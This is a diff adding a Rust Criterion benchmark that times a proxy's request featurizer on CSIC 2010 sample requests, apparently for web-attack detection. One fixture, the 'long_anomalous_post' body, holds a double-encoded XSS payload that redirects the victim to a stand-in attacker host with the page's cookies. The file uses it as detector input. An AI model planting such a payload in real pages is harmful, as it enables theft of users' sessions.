@@ -1,0 +1,81 @@
+//! Cost of featurizing one request on the proxy's hot path (`transform_into` with reused
+//! buffers), for real CSIC 2010 requests: a typical GET, a typical POST, and a long, double-encoded
+//! anomalous POST. The featurizer is fitted (top-500) on the in-repo CSIC sample.
+//!
+//! `cargo bench --release -p featurizer --bench transform`
+use criterion::{black_box, criterion_group, criterion_main, Criterion};
+use featurizer::{Featurizer, FeaturizerConfig, RequestParts, Scratch, SparseVector};
+
+const SAMPLE: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../data/sample/csic_normalTrafficTraining_sample.txt");
+
+/// Request lines (target in origin form) and bodies of a CSIC file: just enough parsing for a
+/// realistic vocabulary (the datasets crate is the real loader).
+fn csic_requests(text: &str) -> Vec<(String, Option<String>)> {
+    let mut out: Vec<(String, Option<String>)> = Vec::new();
+    let mut in_body = false;
+    for line in text.lines() {
+        let line = line.trim_end_matches('\r');
+        if let Some(rest) = line.strip_prefix("GET ").or_else(|| line.strip_prefix("POST ")) {
+            let url = rest.rsplit_once(' ').map_or(rest, |(u, _)| u);
+            let target = url.strip_prefix("http://localhost:8080").unwrap_or(url);
+            out.push((target.to_owned(), None));
+            in_body = false;
+        } else if line.is_empty() {
+            in_body = true;
+        } else if in_body {
+            if let Some(last) = out.last_mut() {
+                last.1 = Some(line.to_owned());
+            }
+        }
+    }
+    out
+}
+
+fn bench(c: &mut Criterion) {
+    let text = std::fs::read_to_string(SAMPLE).expect("data/sample CSIC file");
+    let docs = csic_requests(&text);
+    let f = Featurizer::fit(
+        FeaturizerConfig::default(),
+        docs.iter().map(|(t, b)| RequestParts { method: "GET", target: t.as_bytes(), body: b.as_deref().map(str::as_bytes) }),
+    )
+    .expect("fit");
+    let cases: [(&str, RequestParts); 3] = [
+        ("typical_get", RequestParts::get(
+            "/tienda1/publico/anadir.jsp?id=3&nombre=Vino+Rioja&precio=100&cantidad=55&B1=A%F1adir+al+carrito",
+        )),
+        ("typical_post", RequestParts {
+            method: "POST",
+            target: b"/tienda1/publico/autenticar.jsp",
+            body: Some(b"modo=entrar&login=choong&pwd=d1se3ci%F3n&remember=off&B1=Entrar"),
+        }),
+        ("long_anomalous_post", RequestParts {
+            method: "POST",
+            target: b"/tienda1/publico/autenticar.jsp",
+            body: Some(concat!(
+                "modo=sessionid%3D12312312%26+username%3D%253C%2573%2563%2572%2569%2570%2574%253E%2564%256F",
+                "%2563%2575%256D%2565%256E%2574%252E%256C%256F%2563%2561%2574%2569%256F%256E%253D%2527%2568",
+                "%2574%2574%2570%253A%252F%252F%2561%2574%2574%2561%2563%256B%2565%2572%2568%256F%2573%2574",
+                "%252E%2565%2578%2561%256D%2570%256C%2565%252F%2563%2567%2569%252D%2562%2569%256E%252F%2563",
+                "%256F%256F%256B%2569%2565%2573%2574%2565%2561%256C%252E%2563%2567%2569%253F%2527%252B%2564",
+                "%256F%2563%2575%256D%2565%256E%2574%252E%2563%256F%256F%256B%2569%2565%253C%252F%2573+%2563",
+                "%2572%2569%2570%2574%253E%3F&login=slaby&password=3a91io&nombre=Jam%F3n+Ib%E9rico&B1=Entrar"
+            ).as_bytes()),
+        }),
+    ];
+    let mut group = c.benchmark_group("transform_into");
+    for (name, req) in &cases {
+        let mut scratch = Scratch::default();
+        let mut out = SparseVector::default();
+        group.bench_function(*name, |b| {
+            b.iter(|| {
+                f.transform_into(black_box(req), &mut scratch, &mut out);
+                black_box(out.indices.len())
+            })
+        });
+    }
+    group.finish();
+    c.bench_function("transform_allocating/typical_get", |b| b.iter(|| black_box(f.transform(black_box(&cases[0].1)))));
+}
+
+criterion_group!(benches, bench);
+criterion_main!(benches);
